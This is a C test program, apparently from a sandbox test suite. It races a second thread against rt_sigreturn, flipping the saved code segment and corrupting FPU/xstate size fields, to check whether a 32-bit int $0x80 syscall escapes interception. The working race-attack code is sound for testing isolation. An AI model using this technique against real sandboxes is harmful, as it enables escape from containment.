/*
 * S3: another thread changes the frame while rt_sigreturn reads it: the code segment, which decides
 * how the program goes on, and what the FPU image says of its own size. The code that is returned
 * to means the same in 32-bit and 64-bit mode, and its call is to be seen in both.
 */
#include "attack.h"
#include <pthread.h>

#define ROUNDS 3000

/* Both modes: the probe by int $0x80, then a fault that brings the answer in EAX. */
__asm__(".pushsection .rodata\n"
        "both_modes:\n"
        "    mov $172, %eax\n"
        "    mov $59, %ebx\n"
        "    mov $99, %ecx\n"
        "    xor %edx, %edx\n"
        "    xor %esi, %esi\n"
        "    xor %edi, %edi\n"
        "    int $0x80\n"
        "    ud2\n"
        "both_modes_end:\n"
        ".popsection\n");
extern const uint8_t both_modes[], both_modes_end[] __attribute__((visibility("hidden")));

static uint8_t *code;
static ucontext_t *volatile frame; /* the one to be raced on, while there is one */
static volatile bool stop;
static volatile int rounds, unseen;

static void *edit(void *argument)
{
    for (uint32_t i = 0; !stop; i++) {
        ucontext_t *context = frame;
        if (context == NULL) {
            continue;
        }
        greg_t segments = context->uc_mcontext.gregs[REG_CSGSFS];
        context->uc_mcontext.gregs[REG_CSGSFS] = (segments & ~0xffff) | (i % 2 ? 0x23 : 0x33);
        volatile uint32_t *fpu = (volatile uint32_t *)context->uc_mcontext.fpregs;
        fpu[116] = i % 3 ? 0x46505853 : 0; /* magic1 */
        fpu[117] ^= 0x7ffc0000;            /* extended_size */
        fpu[120] ^= 0x7f000000;            /* xstate_size */
    }
    return argument;
}

static void again(int signo, siginfo_t *info, void *opaque)
{
    ucontext_t *context = opaque;
    greg_t *registers = context->uc_mcontext.gregs;
    (void)signo;
    (void)info;
    if ((uint8_t *)registers[REG_RIP] >= code && (uint8_t *)registers[REG_RIP] < code + PAGE) {
        unseen += answered_by_kernel((int)registers[REG_RAX]);
    }
    if (rounds-- == 0) {
        if (unseen > 0) {
            reached();
        }
        not_reached("ENOSYS");
    }
    registers[REG_RIP] = (greg_t)code;
    frame = context;
}

int main(void)
{
    static uint8_t stack[65536];
    pthread_t editor;
    rounds = fewer_when_emulated(ROUNDS);
    code = code_page(both_modes, (size_t)(both_modes_end - both_modes), MAP_32BIT);
    /* A frame that is always in the same place, whatever the mode's stack pointer is. */
    stack_t alternate = {.ss_sp = stack, .ss_size = sizeof stack};
    MUST(sigaltstack(&alternate, NULL));
    handle(SIGILL, again, SA_ONSTACK | SA_NODEFER);
    CHECK_EQ(pthread_create(&editor, NULL, edit, NULL), 0, "pthread_create");
    __asm__ volatile("ud2");
    return 2;
}
